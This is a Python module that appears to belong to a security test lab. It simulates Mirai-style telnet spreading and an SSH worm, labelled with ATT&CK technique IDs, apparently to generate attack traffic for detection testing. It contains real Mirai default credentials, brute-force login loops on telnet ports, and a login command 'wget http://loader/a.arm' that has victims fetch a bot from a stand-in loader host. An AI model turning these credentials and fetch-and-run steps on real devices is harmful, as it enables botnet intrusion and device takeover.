"""A bot that looks for more of its kind (ATT&CK T1595.001, T1110.001, T1105, as Mirai does it)."""

from __future__ import annotations

import ipaddress
import random
from contextlib import suppress

from tests.lab import wire
from tests.lab.network import Host
from tests.lab.stage import Stage
from tests.lab.world import OUTSIDE

CREDENTIALS = (
    ("root", "xc3511"),
    ("root", "vizxv"),
    ("root", "admin"),
    ("admin", "admin"),
    ("root", "888888"),
)


def mirai(
    stage: Stage,
    me: Host,
    rng: random.Random,
    *,
    probes: int = 250,
    wait: float = 0.15,
    ports: str = "23,2323",
    outside: float = 0.6,
    patience: float = 0.4,
) -> None:
    """Probes random addresses, mostly port 23, tries default passwords where it is open, makes the
    victim download."""
    wanted = [int(port) for port in ports.split(",")]
    loader = stage.outsider(rng)
    around = [str(stage.network.subnet), stage.annex, *OUTSIDE]
    caught: set[str] = set()
    with stage.activity(
        "spreading", "T1110.001", "telnet spreading", [me], list(around), "tcp", wanted
    ):
        for _ in range(probes):
            address, port = (
                _random_address(stage, rng, outside),
                wanted[0 if rng.random() < 0.85 else -1],
            )
            if (
                address != me.address
                and address not in caught
                and _try(address, port, rng, patience)
            ):
                caught.add(address)
                _infect(stage, address, loader)
            stage.sleep(wait * rng.uniform(0.3, 1.7))
    stage.note(f"spreading: {len(caught)} caught")


def _random_address(stage: Stage, rng: random.Random, outside: float) -> str:
    if rng.random() < 0.15:
        return rng.choice(stage.role("gadget", "camera")).address
    network = (
        rng.choice(OUTSIDE)
        if rng.random() < outside
        else rng.choice((stage.annex, str(stage.network.subnet)))
    )
    return str(ipaddress.ip_network(network)[rng.randrange(1, 255)])


def _try(address: str, port: int, rng: random.Random, patience: float) -> bool:
    try:
        wire.connect(address, port, timeout=patience).close()
    except OSError:
        return False
    for user, password in rng.sample(CREDENTIALS, rng.randint(2, len(CREDENTIALS))):
        with suppress(OSError):
            if wire.telnet_login(
                address, port, user, password, ["enable", "shell", "wget http://loader/a.arm"]
            ):
                return True
    return False


def _infect(stage: Stage, address: str, loader: str) -> None:
    victims = [host for host in stage.local() if host.address == address]
    if victims:
        stage.start(victims[0], lambda: _download(stage, victims[0], loader), "infection")


def _download(stage: Stage, victim: Host, loader: str) -> None:
    with stage.activity("other", "T1105", "download of the bot", [victim], [loader], "tcp", [80]):
        for _ in range(2):
            with suppress(OSError):
                wire.http(loader, 80, ["/64000/bot"])
            stage.sleep(1)


def ssh_worm(
    stage: Stage,
    me: Host,
    rng: random.Random,
    *,
    probes: int = 150,
    wait: float = 0.4,
    port: int = 22,
    patience: float = 0.6,
) -> None:
    """Probes random addresses for SSH; where it is open it tries a few logins and goes on."""
    loader = stage.outsider(rng)
    around = [str(stage.network.subnet), stage.annex, *OUTSIDE]
    open_hosts = [host.address for host in stage.role("server", "nas", "exposed") if host is not me]
    with stage.activity(
        "spreading", "T1021.004", "SSH spreading", [me], list(around), "tcp", [port]
    ):
        for number in range(probes):
            address = (
                rng.choice(open_hosts) if number % 25 == 24 else _random_address(stage, rng, 0.5)
            )
            with suppress(OSError):
                if address != me.address:
                    wire.connect(address, port, timeout=patience).close()
                    for _ in range(rng.randint(1, 3)):
                        wire.ssh_knock(address, port)
            stage.sleep(wait * rng.uniform(0.3, 1.7))
        with (
            stage.activity("other", "T1105", "download of the bot", [me], [loader], "tcp", [80]),
            suppress(OSError),
        ):
            wire.http(loader, 80, ["/48000/worm"])
